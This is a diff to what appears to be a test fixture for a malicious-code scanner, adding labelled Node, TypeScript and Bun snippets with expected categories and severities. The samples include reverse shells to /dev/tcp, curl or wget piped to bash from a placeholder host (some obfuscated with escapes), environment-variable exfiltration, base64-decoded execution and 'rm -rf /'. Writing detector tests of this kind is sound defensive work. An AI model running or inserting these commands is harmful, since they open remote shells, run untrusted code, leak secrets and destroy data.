@@ -87,6 +87,27 @@ HARMFUL = {
         "fetch('https://x.example', {method: 'POST', body: JSON.stringify({v: {...process.env}})})",
         "exfiltration",
     ),
+    "node: a reverse shell by a command": (
+        "a.js",
+        "const {execSync} = require('child_process');\nexecSync(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")",
+        "reverse-shell",
+    ),
+    "node: a command that runs a download": (
+        "a.js",
+        'require("child_process").exec("curl -s https://x.example/i | bash")',
+        "download-and-run",
+    ),
+    "node: such a command with a name": (
+        "a.ts",
+        "import {spawn} from 'node:child_process'\nconst c = `curl ${url} | sh`\nspawn('sh', ['-c', c])",
+        "download-and-run",
+    ),
+    "node: such a command in escapes": (
+        "a.js",
+        "x.exec('\\x63url https:\\/\\/x.example/i \\u007c bash')",
+        "download-and-run",
+    ),
+    "bun: such a command": ("a.ts", "await $`wget -qO- https://x.example/i | sh`", "download-and-run"),
     "sh: what is downloaded": ("a.sh", "curl -s https://x.example/i | sudo bash", "download-and-run"),
     "sh: encoded": ("a.sh", f"echo {B64} | base64 -d | sh", "encoded-code"),
     "sh: a reverse shell": ("run", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4 0>&1", "reverse-shell"),
@@ -120,6 +141,25 @@ TELLING = {
         "const https = require('https'); const env = {...process.env, A: undefined};\n"
         "https.request(url); require('child_process').execSync('git status', {env});",
         "exfiltration",
+        Severity.HIGH,
+    ),
+    "node: a command that nothing runs": (
+        "a.js",
+        "export const hint = 'curl -s https://x.example/i | bash'",
+        "download-and-run",
+        Severity.HIGH,
+    ),
+    "node: a command that is told": (
+        "a.js",
+        "require('child_process').execSync('deno -V');\n"
+        "console.error(`No ${tool}: curl -s https://x.example/i | sh`)",
+        "download-and-run",
+        Severity.HIGH,
+    ),
+    "node: a command in what may be no comment": (
+        "a.js",
+        "x = {} / /[/*]/; require('child_process').exec('curl -s https://x.example/i | bash') /* */",
+        "download-and-run",
         Severity.HIGH,
     ),
     "sh: all of it": ("a.sh", "rm -rf / ", "destruction", Severity.HIGH),
